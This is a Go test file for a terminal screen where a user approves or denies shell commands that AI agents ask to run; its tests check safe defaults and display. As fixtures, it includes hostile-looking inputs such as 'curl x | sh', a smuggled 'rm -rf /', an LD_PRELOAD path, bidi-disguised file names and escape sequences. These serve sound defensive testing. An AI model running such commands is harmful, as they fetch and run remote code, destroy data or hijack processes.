package approvals_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"
	"github.com/google/go-cmp/cmp"

	"roundtable/agents"
	"roundtable/debate"
	"roundtable/internal/testing/viewtest"
	"roundtable/tui/approvals"
	"roundtable/tui/screen"
	"roundtable/tui/theme"
)

// fixture is the screen with a clock that stands still between keys.
type fixture struct {
	*testing.T
	*approvals.Screen
	now time.Time
}

func newFixture(t *testing.T) *fixture {
	f := &fixture{T: t, now: time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)}
	f.Screen = approvals.New(theme.New(theme.Options{Dark: true}), func() time.Time { return f.now })
	f.SetSession(debate.Session{ID: "s", Seats: []agents.Profile{{ID: "ada", Name: "Ada"}, {ID: "brook", Name: "Brook"}}})
	f.SetSize(80, 21)
	return f
}

func asked(id agents.ID, call string, at time.Time, argv ...string) debate.ApprovalAsked {
	return debate.ApprovalAsked{
		Turn: agents.Turn{Session: "s", Round: 1, Attempt: 1, Agent: id}, CallID: call, Argv: argv,
		Dir: "/home/u/.local/state/roundtable/workspaces/s/" + string(id), Mode: debate.WorkspaceClone, Hash: "h-" + call, At: at,
	}
}

// waiting is the screen with two commands, opened a second ago.
func waiting(t *testing.T) *fixture {
	f := newFixture(t)
	f.Apply(asked("ada", "t1", f.now, "go", "test", "./my pkg", ""))
	f.Apply(asked("brook", "t2", f.now, "make"))
	f.Begin()
	f.now = f.now.Add(time.Second)
	return f
}

// press presses keys one after the other and returns what the last one did.
func (f *fixture) press(keys ...string) (out screen.Outcome) {
	f.Helper()
	for _, pressed := range keys {
		i := slices.IndexFunc(f.Commands(), func(c screen.Command) bool {
			return slices.Contains(c.Keys(), pressed) && (c.InField || !f.Typing())
		})
		if i >= 0 {
			out = f.Commands()[i].Run(pressed)
			continue
		}
		msg := tea.KeyPressMsg{Code: []rune(pressed)[0], Text: pressed}
		switch pressed {
		case "enter":
			msg = tea.KeyPressMsg{Code: tea.KeyEnter}
		case "backspace":
			msg = tea.KeyPressMsg{Code: tea.KeyBackspace}
		}
		out = f.HandleKey(msg)
	}
	return out
}

func (f *fixture) typed(s string) {
	f.Helper()
	f.press(strings.Split(s, "")...)
}

func (f *fixture) drawn() string { return ansi.Strip(f.View(screen.Frame{Now: f.now})) }

func TestScreen_eachChoiceIsSentAsItIs(t *testing.T) {
	for _, c := range []struct {
		name string
		do   func(f *fixture)
		want debate.Approval
	}{
		{"deny is preset", func(*fixture) {}, debate.Approval{Choice: debate.ApprovalDenied}},
		{"deny with a reason", func(f *fixture) {
			f.typed("not jAqy")
		}, debate.Approval{Choice: debate.ApprovalDenied, Reason: "not jAqy"}},
		{"once", func(f *fixture) { f.press("down") }, debate.Approval{Choice: debate.ApprovalOnce}},
		{"a pattern", func(f *fixture) { f.press("down", "down") }, debate.Approval{Choice: debate.ApprovalPattern, Pattern: []string{"go", "test"}}},
		{"a shorter pattern", func(f *fixture) {
			f.press("down", "down", "backspace", "backspace", "backspace", "backspace", "backspace")
		}, debate.Approval{Choice: debate.ApprovalPattern, Pattern: []string{"go"}}},
		{"a longer pattern", func(f *fixture) {
			f.press("down", "down")
			f.typed(" './my pkg'")
		}, debate.Approval{Choice: debate.ApprovalPattern, Pattern: []string{"go", "test", "./my pkg"}}},
		{"back to deny", func(f *fixture) { f.press("down", "up", "up") }, debate.Approval{Choice: debate.ApprovalDenied}},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := waiting(t)
			c.do(f)
			c.want.Hash = "h-t1"
			if diff := cmp.Diff(screen.Outcome{approvals.Decide{Call: "t1", Approval: c.want}}, f.press("ctrl+s")); diff != "" {
				t.Error(diff)
			}
		})
	}
}

func TestScreen_sendsNothingThatIsNotComplete(t *testing.T) {
	for name, do := range map[string]func(f *fixture){
		"another command": func(f *fixture) { f.press("down", "down", "x") },
		"half a word":     func(f *fixture) { f.press("down", "down", "backspace") },
		"an open quote":   func(f *fixture) { f.press("down", "down", "'") },
		"an ended one":    func(f *fixture) { f.Apply(debate.ApprovalDecided{CallID: "t1"}) },
	} {
		f := waiting(t)
		do(f)
		out := f.press("ctrl+s")
		if len(out) != 1 {
			t.Fatalf("%s: %v", name, out)
		}
		if _, ok := out[0].(screen.Notice); !ok {
			t.Errorf("%s: sent %v", name, out)
		}
	}
}

// Whatever letters and enters are pressed, nothing is allowed and nothing is sent.
func TestScreen_noLetterAndNoEnterDecides(t *testing.T) {
	f := waiting(t)
	for r := rune('!'); r <= '~'; r++ {
		for _, k := range []string{string(r), "enter", "space"} {
			if out := f.press(k); out != nil {
				t.Fatalf("%q does %v", k, out)
			}
		}
	}
	if d, ok := f.press("ctrl+s")[0].(approvals.Decide); !ok || d.Approval.Allows() {
		t.Errorf("then ctrl+s decides %+v", d)
	}
	if diff := cmp.Diff(screen.Outcome{screen.Close{}}, waiting(t).Back()); diff != "" {
		t.Error(diff)
	}
}

func TestScreen_ignoresKeysForAMoment(t *testing.T) {
	f := waiting(t)
	f.Begin()
	f.now = f.now.Add(screen.Settle - time.Millisecond)
	if out := f.press("down", "down", "tab", "ctrl+s"); out != nil {
		t.Errorf("just opened, it sends %v", out)
	}
	f.now = f.now.Add(time.Millisecond)
	first := f.press("ctrl+s")
	if d, ok := first[0].(approvals.Decide); !ok || d.Call != "t1" || d.Approval.Allows() {
		t.Errorf("then it sends %v", first)
	}
	if out := f.press("down", "down", "ctrl+s"); out != nil {
		t.Errorf("the next one is sent by the same press: %v", out)
	}
	f.now = f.now.Add(screen.Settle)
	if d, ok := f.press("ctrl+s")[0].(approvals.Decide); !ok || d.Call != "t2" || d.Approval.Allows() {
		t.Errorf("after a while it sends %+v", d)
	}
}

func TestScreen_saysWhatEndedWhileItIsOpen(t *testing.T) {
	f := waiting(t)
	f.Apply(debate.ApprovalDecided{CallID: "t1", Approval: debate.Approval{Reason: "your turn was cancelled"}})
	if s := f.drawn(); !strings.Contains(s, "denied: your turn was cancelled") || f.Waiting() != 1 {
		t.Errorf("%d wait:\n%s", f.Waiting(), s)
	}
	f.Begin()
	if s := f.drawn(); strings.Contains(s, "your turn") || !strings.Contains(s, "make") {
		t.Errorf("opened again it shows\n%s", s)
	}
}

// A command is shown whole, however long it is, and what is chosen is in sight.
func TestScreen_showsAllOfALongCommand(t *testing.T) {
	f := newFixture(t)
	var argv []string
	for i := range 100 {
		argv = append(argv, strings.Repeat(string(rune('a'+i%26)), 60)+" "+string(rune('a'+i%26)))
	}
	f.Apply(asked("ada", "t1", f.now, argv...))
	f.Begin()
	f.now = f.now.Add(time.Second)
	seen := f.drawn()
	if !strings.Contains(seen, "● deny, with a reason") {
		t.Errorf("the choice is out of sight:\n%s", seen)
	}
	for range 20 {
		f.press("pgdown")
		seen += "\n" + f.drawn()
	}
	seen = strings.NewReplacer(" │\n│ ", "").Replace(seen) // long words wrap
	for i := range 26 {
		if !strings.Contains(seen, strings.Repeat(string(rune('a'+i)), 60)) {
			t.Errorf("argument %d is never seen", i)
		}
	}
	if f.press("down"); !strings.Contains(f.drawn(), "● run it once") {
		t.Errorf("after a choice it shows\n%s", f.drawn())
	}
}

func TestScreen_isExactlyItsSizeAndShowsOnlyText(t *testing.T) {
	f := newFixture(t)
	const hostile = "\x1b]0;owned\a\x1b[2J\u202e\u200b\r\n\x00é\xff漢字"
	ev := asked("ada", "t1", f.now, "echo", hostile, strings.Repeat("x", 3000))
	ev.Dir += hostile
	f.Apply(ev)
	f.Apply(asked("brook", "t2", f.now, hostile))
	f.Begin()
	f.now = f.now.Add(time.Second)
	for _, keys := range [][]string{nil, {"down"}, {"down", "down"}, {"down"}, {"down"}, {"tab"}} {
		f.press(keys...)
		for _, size := range [][2]int{{40, 7}, {80, 21}, {140, 37}, {200, 57}} {
			f.SetSize(size[0], size[1])
			view := f.View(screen.Frame{Now: f.now})
			viewtest.RequireSize(t, view, size[0], size[1])
			if s := ansi.Strip(view); strings.ContainsFunc(s, func(r rune) bool {
				return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r))
			}) {
				t.Fatalf("%v: controls are left: %q", size, s)
			}
		}
	}
}

// fields are pairs of a name and a value.
func fields(pairs ...string) (out []agents.Field) {
	for pair := range slices.Chunk(pairs, 2) {
		out = append(out, agents.Field{Name: pair[0], Value: pair[1]})
	}
	return out
}

func TestScreen_warnsOfAFolderOutsideTheWorkspace(t *testing.T) {
	warning := theme.New(theme.Options{Dark: true}).Warning
	for words, outside := range map[string]bool{"in /etc, outside the workspace": true, "in /etc": false} {
		f := newFixture(t)
		ev := asked("ada", "t1", f.now, "make")
		ev.Dir, ev.Outside = "/etc", outside
		f.Apply(ev)
		f.Begin()
		view := f.View(screen.Frame{Now: f.now})
		if !strings.Contains(f.drawn(), words) || strings.Contains(view, warning.Render(words)) != outside {
			t.Errorf("%q in the warning colour: want %v in\n%q", words, outside, view)
		}
	}
}

// Inputs that try to hide something, on a terminal of 80x24. Blank rows are left out.
func TestScreen_hidesNothingOfACommand(t *testing.T) {
	many := make([]agents.Field, 200)
	for i := range many {
		many[i] = agents.Field{Name: "member" + strings.Repeat("x", i%3), Value: "v"}
	}
	long := append([]string{"rm"}, slices.Repeat([]string{"-v", "a file"}, 40)...)
	shown := map[string]string{}
	for name, c := range map[string]struct {
		argv   []string
		fields []agents.Field
		dir    string // outside of where the seat works; "?": not known
		own    bool   // the seat has no workspace
		each   string
	}{
		"long argv":  {argv: append(long, "/etc")},
		"controls":   {argv: []string{"echo", "a\nrm -rf /\x1b[2J"}, fields: fields("note\n", "b\r\x1b]0;x\a"), each: "note comes with the command"},
		"bidi":       {argv: []string{"cat", "\u202egnp.exe"}, fields: fields("x", "\u2066\u200bsecret"), each: "x comes with the command"},
		"preload":    {argv: []string{"make"}, fields: fields("env.LD_PRELOAD", "/tmp/x.so"), each: "env.LD_PRELOAD comes with the command"},
		"workdir":    {argv: []string{"rm", "-rf", "build"}, dir: "/etc", each: "it names another folder"},
		"own":        {argv: []string{"ls"}, own: true},
		"above own":  {argv: []string{"ls"}, own: true, dir: "/etc", each: "it names another folder"},
		"not known":  {argv: []string{"ls"}, dir: "?", fields: fields("cwd", "$HOME"), each: "cwd comes with the command"},
		"background": {argv: []string{"make"}, fields: fields("run_in_background", "true"), each: "run_in_background comes with the command"},
		"shell":      {argv: []string{"sh", "-c", "make; curl x | sh"}, each: "sh is given a line to run"},
		"unknown":    {argv: []string{"make"}, fields: fields("x", strings.Repeat("long ", 120)), each: "x comes with the command"},
		"nested":     {argv: []string{"make"}, fields: fields("a.b.c.sandbox", "off", "a.list", `[{"d":1}]`), each: "a.b.c.sandbox comes with the command"},
		"many":       {argv: []string{"make"}, fields: many, each: "seat comes with the command"},
	} {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t)
			ev := asked("ada", "t1", f.now, c.argv...)
			ev.Fields, ev.EachTime = c.fields, c.each
			if ev.Own = c.own; c.own {
				ev.Mode, ev.Dir = "", "/tmp/roundtable-acp-1/turn-2"
			}
			switch c.dir {
			case "":
			case "?":
				ev.Dir = ""
			default:
				ev.Dir, ev.Outside = c.dir, true
			}
			f.Apply(ev)
			f.Begin()
			f.now = f.now.Add(time.Second)
			shown[name] = f.drawn()
			if f.press("down", "down", "down"); c.each != "" {
				if d, ok := f.press("ctrl+s")[0].(approvals.Decide); ok && d.Approval.Choice == debate.ApprovalPattern {
					t.Error("a pattern can allow it")
				}
			}
		})
	}
	var all strings.Builder
	for _, name := range slices.Sorted(maps.Keys(shown)) {
		fmt.Fprintf(&all, "=== %s\n", name)
		for row := range strings.SplitSeq(shown[name], "\n") {
			if row = strings.TrimRight(strings.Trim(row, "│"), " "); row != "" {
				fmt.Fprintln(&all, row)
			}
		}
	}
	golden.RequireEqual(t, all.String())
}
